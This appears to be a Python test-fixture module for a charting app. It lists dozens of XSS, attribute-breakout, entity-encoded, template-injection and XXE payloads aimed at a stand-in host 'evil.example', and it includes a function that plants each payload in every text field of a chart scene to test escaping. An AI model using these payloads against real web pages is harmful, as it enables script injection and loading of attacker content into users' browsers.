"""What a malicious data file could put in its texts, and a scene that has it in every one of them."""

from dataclasses import replace

from app.charts.scene import Event, Group, KeyEntry, Point, Scene
from app.quantities.period_text import PeriodText

EVIL = "https://evil.example/x"
_SCRIPT = "window.ran=1"
_TAGS = (
    f"<script>{_SCRIPT}</script>",
    f'<script src="{EVIL}"></script>',
    f"<ScRiPt>{_SCRIPT}</sCrIpT>",
    f"<img src=x onerror={_SCRIPT}>",
    f'<img src="{EVIL}">',
    f'<image href="{EVIL}"/>',
    f'<image xlink:href="{EVIL}"/>',
    f'<a href="{EVIL}">a</a>',
    f'<a href="javascript:{_SCRIPT}">a</a>',
    f'<a href="data:text/html,<script>{_SCRIPT}</script>">a</a>',
    f'<a xlink:href="{EVIL}">a</a>',
    f'<a href="{EVIL}" target="_blank" popup="width=1">a</a>',
    f'<svg onload="{_SCRIPT}">',
    f"<svg/onload={_SCRIPT}//",
    f'<use href="{EVIL}#x"/>',
    f'<iframe src="{EVIL}"></iframe>',
    f'<iframe srcdoc="<script>{_SCRIPT}</script>"></iframe>',
    f'<object data="{EVIL}"></object>',
    f'<embed src="{EVIL}">',
    f'<link rel="stylesheet" href="{EVIL}">',
    f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    f'<base href="{EVIL}">',
    f'<form action="{EVIL}"><button>a</button></form>',
    f'<body onload="{_SCRIPT}">',
    f'<input autofocus onfocus="{_SCRIPT}">',
    f'<details open ontoggle="{_SCRIPT}">',
    f'<video src="{EVIL}" onerror="{_SCRIPT}"></video>',
    f"<style>@import '{EVIL}';</style>",
    f'<b style="background:url({EVIL})">b</b>',
    f'<span style="background:url({EVIL})">b</span>',
    "<b>bold</b><i>i</i><sup>1</sup>",
    f'<foreignObject><img src="{EVIL}"/></foreignObject>',
    f'<animate onbegin="{_SCRIPT}" attributeName="x"/>',
    f'<set attributeName="href" to="javascript:{_SCRIPT}"/>',
    "<math><mtext></table></math>",
    f"<!--><img src=x onerror={_SCRIPT}>-->",
    f"<![CDATA[<img src=x onerror={_SCRIPT}>]]>",
    f'<?xml-stylesheet href="{EVIL}"?>',
    f'<!DOCTYPE x [<!ENTITY e SYSTEM "{EVIL}">]>&e;',
)
_BREAKS = (
    f'" onmouseover="{_SCRIPT}',
    f"' onmouseover='{_SCRIPT}",
    f'"><script>{_SCRIPT}</script>',
    f"'><script>{_SCRIPT}</script>",
    f'"/><image href="{EVIL}"/><a x="',
    f"</title><script>{_SCRIPT}</script>",
    f"</desc></svg><script>{_SCRIPT}</script>",
    f"</text></a></svg><img src=x onerror={_SCRIPT}>",
    f"</td></tr></table><script>{_SCRIPT}</script>",
    f"</textarea></style></noscript><img src=x onerror={_SCRIPT}>",
    f"`${{{_SCRIPT}}}`",
    "&lt;script&gt;window.ran=1&lt;/script&gt;",
    f"&lt;a href=&quot;{EVIL}&quot;&gt;a&lt;/a&gt;",
    f"&amp;lt;img src={EVIL}&amp;gt;",
    "&#60;script&#62;window.ran=1&#60;/script&#62;",
    "&#x3c;img src=x onerror=window.ran=1&#x3e;",
)
_TEMPLATES = (
    "%{x}%{y:.0%}%{customdata[1]}",
    "%{customdata[0]}<extra>x</extra>",
    "{{ 7*7 }}{% raw %}",
    "{0.__class__}{name!r}",
    "$x^2$ \\href{javascript:window.ran=1}{a}",
)
PAYLOADS = (*_TAGS, *_BREAKS, *_TEMPLATES)


def poisoned(scene: Scene, payload: str) -> Scene:
    """The scene with the payload in every text; ids and addresses are ours and stay."""
    return replace(
        scene,
        title=payload,
        subtitle=payload,
        source_line=payload,
        description=payload,
        notes=(payload,),
        key=tuple(KeyEntry(entry.mark, payload) for entry in scene.key),
        labels=dict.fromkeys(scene.labels, payload),
        groups=tuple(_group(group, payload) for group in scene.groups),
        events=tuple(_event(event, payload) for event in scene.events),
    )


def _group(group: Group, payload: str) -> Group:
    points = tuple(_point(point, payload) for point in group.points)
    return replace(group, name=payload, points=points, note=payload if group.note else "")


def _point(point: Point, payload: str) -> Point:
    return replace(
        point,
        name=payload,
        label=replace(point.label, qualifier=payload, number=payload, scale=payload, unit=payload, mark=payload),
        period_text=PeriodText(payload, payload, (payload,)),
        definition=payload,
        source=payload,
        note=payload,
        whole=_point(point.whole, payload) if point.whole else None,
        change=_point(point.change, payload) if point.change else None,
    )


def _event(event: Event, payload: str) -> Event:
    texts = dict.fromkeys(("title", "lane_name", "period_text", "place", "source", "note"), payload)
    return replace(event, **texts)  # type: ignore[arg-type]
